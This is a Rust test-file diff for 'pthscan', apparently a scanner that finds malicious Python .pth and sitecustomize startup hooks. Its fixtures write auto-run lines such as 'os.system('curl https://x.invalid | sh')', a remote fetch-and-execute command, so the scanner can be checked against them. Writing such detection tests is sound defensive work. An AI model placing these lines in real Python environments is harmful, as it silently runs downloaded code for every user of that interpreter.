@@ -1,0 +1,333 @@
+//! CLI integration tests: the built binary on environments written to temporary directories.
+
+mod util;
+
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use util::*;
+
+const SP: &str = "venv/lib/python3.12/site-packages";
+
+fn venv(dir: &Path) -> std::path::PathBuf {
+    let sp = dir.join(SP);
+    std::fs::create_dir_all(&sp).unwrap();
+    std::fs::write(dir.join("venv/pyvenv.cfg"), "version = 3.12.4\n").unwrap();
+    sp
+}
+
+#[test]
+fn every_corpus_case_yields_exactly_its_expected_findings() {
+    let names = case_names();
+    assert!(names.len() >= 10, "{names:?}");
+    for name in names {
+        let case = load_case(&name);
+        assert!(!case.description.is_empty());
+        let dir = tempfile::tempdir().unwrap();
+        materialize(&case, dir.path());
+        let (json, out) = scan_json(dir.path(), &[]);
+        let mut expected = case.expect.clone();
+        expected.sort();
+        let with_runs_on = |e: &Expect| {
+            expected.iter().any(|x| {
+                x.runs_on.is_some() && x.rule == e.rule && x.path == e.path && x.line == e.line
+            })
+        };
+        let got = findings_as_expect(&json, dir.path(), &with_runs_on);
+        assert_eq!(got, expected, "case `{name}`: {}", stderr(&out));
+        assert_eq!(
+            json["diagnostics"].as_array().unwrap().len(),
+            0,
+            "case `{name}`"
+        );
+        let worst_is_high = expected
+            .iter()
+            .any(|e| e.severity == "high" || e.severity == "critical");
+        assert_eq!(
+            code(&out),
+            if worst_is_high { 1 } else { 0 },
+            "case `{name}`"
+        );
+    }
+}
+
+#[test]
+fn benign_case_never_reaches_high_even_with_fail_on_low() {
+    let dir = tempfile::tempdir().unwrap();
+    materialize(&load_case("benign-hooks"), dir.path());
+    let (json, out) = scan_json(dir.path(), &["--fail-on", "low"]);
+    assert_eq!(code(&out), 0, "{json}");
+    assert!(
+        json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|f| f["severity"] == "info")
+    );
+    assert!(
+        json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|f| f["known_good"].is_string())
+    );
+}
+
+#[test]
+fn exit_codes_follow_fail_on() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    std::fs::write(sp.join("x.pth"), "import _shim\n").unwrap(); // unknown: medium
+    let p = dir.path().to_str().unwrap();
+    assert_eq!(code(&pthscan(&[p])), 0);
+    assert_eq!(code(&pthscan(&[p, "--fail-on", "medium"])), 1);
+    assert_eq!(code(&pthscan(&[p, "--fail-on", "critical"])), 0);
+    std::fs::write(
+        sp.join("y.pth"),
+        "import os; os.system('curl https://x.invalid | sh')\n",
+    )
+    .unwrap();
+    assert_eq!(code(&pthscan(&[p])), 1);
+}
+
+#[test]
+fn missing_path_is_exit_2_with_a_message_and_other_paths_still_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    std::fs::write(sp.join("x.pth"), "import os; os.system('id')\n").unwrap();
+    let out = pthscan(&[dir.path().to_str().unwrap(), "/nonexistent/pthscan-test"]);
+    assert_eq!(code(&out), 2);
+    assert!(
+        stderr(&out).contains("pthscan: /nonexistent/pthscan-test: no such file or directory"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(String::from_utf8_lossy(&out.stdout).contains("x.pth:1"));
+}
+
+#[test]
+fn fifo_is_noted_and_skipped_without_hanging() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    assert!(
+        std::process::Command::new("mkfifo")
+            .arg(sp.join("evil.pth"))
+            .status()
+            .unwrap()
+            .success()
+    );
+    std::fs::write(sp.join("ok.pth"), "import os; os.system('id')\n").unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    assert_eq!(code(&out), 2);
+    let d = &json["diagnostics"][0];
+    assert!(d["path"].as_str().unwrap().ends_with("evil.pth"));
+    assert_eq!(d["message"], "not a regular file (FIFO), skipped");
+    assert_eq!(
+        json["findings"][0]["rule"], "PTH001",
+        "the scan goes on after the FIFO"
+    );
+}
+
+#[test]
+fn symlink_loops_and_links_out_of_the_root_are_reported_not_followed() {
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(
+        outside.path().join("evil.pth"),
+        "import os; os.system('id')\n",
+    )
+    .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    symlink("b.pth", sp.join("a.pth")).unwrap();
+    symlink("a.pth", sp.join("b.pth")).unwrap();
+    symlink(outside.path().join("evil.pth"), sp.join("out.pth")).unwrap();
+    symlink("/", sp.join("rootlink")).unwrap(); // a directory loop candidate: never walked into
+    let (json, out) = scan_json(dir.path(), &[]);
+    assert_eq!(code(&out), 2);
+    let messages: Vec<String> = json["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["message"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        messages
+            .iter()
+            .filter(|m| m.contains("symlink loop"))
+            .count()
+            == 2,
+        "{messages:?}"
+    );
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("leads outside the scanned root")),
+        "{messages:?}"
+    );
+    assert!(json["findings"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn unreadable_hook_is_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    // A dangling link fails the same way a permission error does (an I/O error on open);
+    // root can read anything, so permission denied is only checkable as another user.
+    symlink("missing-target.pth", sp.join("dangling.pth")).unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    assert_eq!(code(&out), 2);
+    assert!(
+        json["diagnostics"][0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("no such file"),
+        "{json}"
+    );
+    assert!(stderr(&out).contains("dangling.pth"));
+}
+
+#[test]
+fn non_utf8_names_and_contents_empty_and_huge_files() {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    let weird = sp.join(std::ffi::OsStr::from_bytes(b"\xff\xfe.pth"));
+    std::fs::write(&weird, b"import _shim\n").unwrap();
+    std::fs::write(sp.join("latin.pth"), b"caf\xe9\x85import _other\n").unwrap();
+    std::fs::write(sp.join("empty.pth"), b"").unwrap();
+    let mut huge = b"import os; os.system('id')\n".to_vec();
+    huge.extend(std::iter::repeat_n(b'#', 8192));
+    std::fs::write(sp.join("huge.pth"), &huge).unwrap();
+    let (json, out) = scan_json(dir.path(), &["--max-file-size", "4096"]);
+    assert_eq!(code(&out), 2, "the huge file was only partly read");
+    let findings = json["findings"].as_array().unwrap();
+    let paths: Vec<&str> = findings
+        .iter()
+        .map(|f| f["location"]["path"].as_str().unwrap())
+        .collect();
+    assert!(
+        paths.iter().any(|p| p.ends_with("/\\xff\\xfe.pth")),
+        "{paths:?}"
+    );
+    let latin = findings
+        .iter()
+        .find(|f| {
+            f["location"]["path"]
+                .as_str()
+                .unwrap()
+                .ends_with("latin.pth")
+        })
+        .expect("latin.pth");
+    assert_eq!(
+        latin["runs_on"],
+        serde_json::json!(["3.13-3.14", "3.15-3.17"])
+    );
+    assert!(
+        paths.iter().any(|p| p.ends_with("huge.pth")),
+        "the head of a huge file is still judged"
+    );
+    assert!(!paths.iter().any(|p| p.ends_with("empty.pth")));
+    let diag = json["diagnostics"].as_array().unwrap();
+    assert!(
+        diag.iter().any(|d| d["message"]
+            .as_str()
+            .unwrap()
+            .contains("larger than the 4096-byte cap")),
+        "{diag:?}"
+    );
+}
+
+#[test]
+fn the_scanned_tree_is_never_written() {
+    let dir = tempfile::tempdir().unwrap();
+    materialize(&load_case("litellm-init"), dir.path());
+    let snapshot = |p: &Path| {
+        let mut all = Vec::new();
+        for e in walk(p) {
+            let m = std::fs::symlink_metadata(&e).unwrap();
+            all.push((
+                e.clone(),
+                m.len(),
+                m.modified().unwrap(),
+                std::fs::read(&e).ok(),
+            ));
+        }
+        all
+    };
+    let before = snapshot(dir.path());
+    let _ = pthscan(&[dir.path().to_str().unwrap()]);
+    assert_eq!(before, snapshot(dir.path()));
+}
+
+fn walk(p: &Path) -> Vec<std::path::PathBuf> {
+    let mut out = vec![p.to_path_buf()];
+    if p.is_dir() {
+        let mut entries: Vec<_> = std::fs::read_dir(p)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .collect();
+        entries.sort();
+        for e in entries {
+            out.extend(walk(&e));
+        }
+    }
+    out
+}
+
+#[test]
+fn root_takes_paths_and_absolute_symlinks_inside_the_image() {
+    let img = tempfile::tempdir().unwrap();
+    let r = img.path();
+    std::fs::create_dir_all(r.join("etc/python3.11")).unwrap();
+    std::fs::create_dir_all(r.join("usr/lib/python3.11")).unwrap();
+    std::fs::create_dir_all(r.join("usr/lib/python3/dist-packages")).unwrap();
+    std::fs::write(r.join("usr/lib/python3.11/os.py"), "").unwrap();
+    std::fs::write(
+        r.join("etc/python3.11/sitecustomize.py"),
+        "import os\nos.system('curl https://x.invalid/a | sh')\n",
+    )
+    .unwrap();
+    symlink(
+        "/etc/python3.11/sitecustomize.py",
+        r.join("usr/lib/python3.11/sitecustomize.py"),
+    )
+    .unwrap();
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let cus: Vec<&str> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "CUS001")
+        .map(|f| f["location"]["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(cus.len(), 2, "both places on sys.path are reported: {json}");
+    assert!(
+        cus.iter()
+            .all(|p| p.starts_with(std::fs::canonicalize(r).unwrap().to_str().unwrap()))
+    );
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+}
+
+#[test]
+fn explain_prints_the_rule_doc_and_rejects_unknown_rules() {
+    let out = pthscan(&["explain", "PTH001"]);
+    assert_eq!(code(&out), 0);
+    let text = String::from_utf8_lossy(&out.stdout);
+    for heading in ["What it finds", "Why it matters", "Example", "References"] {
+        assert!(text.contains(heading), "{text}");
+    }
+    let all = pthscan(&["explain", "all"]);
+    let listed = String::from_utf8_lossy(&all.stdout);
+    for id in [
+        "PTH001", "PTH002", "PTH003", "PTH010", "START001", "START002", "CUS001", "CUS002",
+        "CUS003", "IMP001",
+    ] {
+        assert!(listed.contains(id), "{id} missing from `explain all`");
+    }
+    let bad = pthscan(&["explain", "NOPE1"]);
+    assert_eq!(code(&bad), 2);
+    assert!(stderr(&bad).starts_with("error: unknown rule `NOPE1`"));
+}
+
+mod output;
